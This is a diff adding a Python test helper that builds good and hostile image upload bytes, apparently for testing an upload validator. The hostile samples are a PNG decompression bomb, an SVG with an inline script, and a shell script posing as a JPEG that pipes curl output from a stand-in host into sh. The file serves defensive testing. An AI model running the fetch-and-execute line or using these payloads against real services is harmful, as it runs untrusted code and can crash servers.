@@ -1,0 +1,54 @@
+"""Bytes of good and hostile uploads, made on the fly (no fixtures on disk)."""
+
+from __future__ import annotations
+
+import io
+import struct
+import zlib
+
+from PIL import Image
+
+from tests.recommendations.photos import garment_photo
+
+
+def encoded(image: Image.Image, fmt: str, **options) -> bytes:
+    buffer = io.BytesIO()
+    image.save(buffer, format=fmt, **options)
+    return buffer.getvalue()
+
+
+def jpeg_photo(size: tuple[int, int] = (120, 160)) -> bytes:
+    return encoded(garment_photo(3, "Red").resize(size), "JPEG", quality=90)
+
+
+def png_header_only(width: int, height: int) -> bytes:
+    """A PNG that declares width x height but carries one tiny compressed row: a decompression bomb."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", header)
+        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
+        + chunk(b"IEND", b"")
+    )
+
+
+def animated(fmt: str) -> bytes:
+    frames = [garment_photo(0, "Red"), garment_photo(0, "Blue")]
+    return encoded(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100, loop=0)
+
+
+def jpeg_with_orientation(orientation: int) -> bytes:
+    """A wide (200x100) photo whose EXIF says how to turn it upright."""
+    exif = Image.Exif()
+    exif[0x0112] = orientation
+    return encoded(Image.new("RGB", (200, 100), (200, 30, 30)), "JPEG", exif=exif.tobytes())
+
+
+SVG_NAMED_JPG = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+)
+SCRIPT_NAMED_JPG = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
